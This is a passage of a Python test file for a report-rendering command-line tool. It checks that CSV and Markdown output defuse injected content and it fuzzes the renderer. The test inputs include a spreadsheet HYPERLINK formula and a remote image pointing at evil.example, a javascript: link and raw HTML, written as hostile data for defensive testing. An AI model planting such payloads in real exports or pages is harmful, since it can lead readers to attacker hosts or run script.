    import csv
    import io

    args = ["--plan", str(formula_plan)]
    if command[0] not in _NO_ACTUALS:
        args += ["--actuals", str(formula_plan / "actuals.yaml")]
    result = run(*command, "--format", "csv", *args)
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))))
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                raise AssertionError(f"live formula {cell!r} in {command}")
            if cell.startswith("-"):
                float(cell)  # only a number may start with a minus sign


def test_batch_csv_holds_no_live_formula(run, formula_plan):
    import csv
    import io

    result = run("batch", str(formula_plan), "--format", "csv")
    assert result.exit_code == 0, result.stderr
    cells = [c for row in csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))) for c in row]
    assert '\'=HYPERLINK("http://evil.example/","x")' in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


# ── 4. Markdown injection ────────────────────────────────────────────────────

MD_ATTACK = "[点此](javascript:alert(1)) ![x](http://evil.example/t.png) a|b\rc\x1bd <img src=x> http://evil.example www.evil.example"


def _md_tokens(text: str):
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable("table").parse(text)


def _flatten(tokens):
    for token in tokens:
        yield token
        yield from _flatten(token.children or [])


def test_md_escape_keeps_a_table_and_makes_no_link_or_image():
    from qzdc.render.formats import to_markdown
    from qzdc.views.view import Column, View

    view = View(data=None, columns=[Column("a", "A"), Column("b", "B")], rows=[{"a": MD_ATTACK, "b": "x"}])
    text = to_markdown(view)
    tokens = list(_flatten(_md_tokens(text)))
    kinds = [t.type for t in tokens]
    assert "link_open" not in kinds and "image" not in kinds and "html_inline" not in kinds
    assert kinds.count("tr_open") == 2  # the header and one row: the CR made no second row
    assert kinds.count("td_open") == 2  # and the | no third column
    assert raw_controls(text) == []
    # GFM would link bare addresses by itself: their scheme and www are broken with an escape.
    assert "http\\://evil.example" in text and "www\\.evil.example" in text


@pytest.mark.parametrize(
    "command", [["status", "--format", "markdown"], ["report"], ["history", "gdp", "--format", "markdown"]]
)
def test_markdown_of_a_hostile_plan_keeps_its_tables(run, plan_copy, command):
    yaml_text = json.dumps(MD_ATTACK)  # a JSON string is a YAML double-quoted string
    edit(plan_copy / "indicators.yaml", "    name: 地区生产总值\n", f"    name: {yaml_text}\n")
    (plan_copy / "actuals.yaml").write_text(
        f"actuals:\n  - {{indicator: gdp, period: 2024, value: 81.2, source: {yaml_text}}}\n", encoding="utf-8"
    )
    result = run(*command, "--plan", str(plan_copy), "--actuals", str(plan_copy / "actuals.yaml"))
    assert result.exit_code == 0, result.stderr
    tokens = list(_flatten(_md_tokens(result.stdout)))
    kinds = [t.type for t in tokens]
    assert "link_open" not in kinds and "image" not in kinds and "html_inline" not in kinds
    # Every row of every table has as many cells as its header.
    widths, row = [], 0
    for token in tokens:
        if token.type == "tr_open":
            row = 0
        elif token.type in ("td_open", "th_open"):
            row += 1
        elif token.type == "tr_close":
            widths.append(row)
    assert widths and len(set(widths)) <= 3  # one width per table at most (report has three tables)
    assert raw_controls(result.stdout) == []


def test_batch_markdown_of_a_hostile_plan(run, plan_copy):
    yaml_text = json.dumps(MD_ATTACK)
    edit(plan_copy / "indicators.yaml", "    name: 地区生产总值\n", f"    name: {yaml_text}\n")
    result = run("batch", str(plan_copy), "--format", "markdown")
    assert result.exit_code == 0, result.stderr
    kinds = [t.type for t in _flatten(_md_tokens(result.stdout))]
    assert "link_open" not in kinds and "image" not in kinds
    assert raw_controls(result.stdout) == []


def test_a_code_block_in_markdown_cannot_be_closed_by_plan_text():
    from qzdc.render.formats import md_code

    block = md_code(["```", "a ```` b"])
    assert block[0] == block[-1] == "`````"


# ── the rendering layer, fuzzed ──────────────────────────────────────────────

# Text with control characters of every kind among ordinary and Chinese characters.
hostile_text = st.text(
    alphabet=st.one_of(
        st.characters(min_codepoint=0, max_codepoint=0x9F),
        st.sampled_from(list("地区生产总值|[]()!<>`*_#\\-=+@:/.w ")),
        st.characters(categories=["L", "N", "P", "S", "Z"]),
    ),
    max_size=40,
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.lists(st.tuples(hostile_text, hostile_text), min_size=1, max_size=4), title=hostile_text)
def test_no_format_emits_a_raw_control_character_and_csv_and_markdown_keep_their_shape(texts, title):
    import csv
    import io

    from qzdc.render.formats import render, to_json
    from qzdc.render.table import to_table
    from qzdc.views.view import Column, Document, Section, View

    columns = [Column("a", title or "A"), Column("b", "B"), Column("n", "N", align="right")]
    rows = [{"a": a, "b": b, "n": -1.5} for a, b in texts]
    view = View(data=rows, columns=columns, rows=rows, title=title, footer=title)
    stream = io.StringIO()
    outputs = {
        "table": render(view, "table", stream=stream),
        "rich table": to_table(view, stream, width=100, color=True),
        "json": to_json(view.data),
        "csv": render(view, "csv"),
        "markdown": render(view, "markdown"),
    }
    document = Document(data=rows, title=title, sections=[Section(title, view=view, lines=[a for a, _ in texts])])
    outputs["document"] = render(document, "table", stream=stream)
    outputs["document markdown"] = render(document, "markdown", stream=stream)
    outputs["csv"] = outputs["csv"].replace("\r\n", "\n")  # CSV's own line ends (RFC 4180); checked below
    for name, text in outputs.items():
        assert raw_controls(text) == [], name
    # CSV: a header and one record per row, three fields each, every field a text or the number as written.
    records = list(csv.reader(io.StringIO(render(view, "csv"), newline="")))
    assert len(records) == 1 + len(rows)
    assert all(len(r) == 3 for r in records)
    assert all(r[2] == "-1.5" for r in records[1:])
    assert not [c for r in records for c in r[:2] if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Markdown: one table, a header and one line per row, three cells in each, and nothing that links anywhere.
    tokens = list(_flatten(_md_tokens(outputs["markdown"])))
    kinds = [t.type for t in tokens]
    assert kinds.count("tr_open") == 1 + len(rows)
    assert kinds.count("td_open") == 3 * len(rows)
    assert (
        "link_open" not in kinds and "image" not in kinds and "html_inline" not in kinds and "html_block" not in kinds
    )
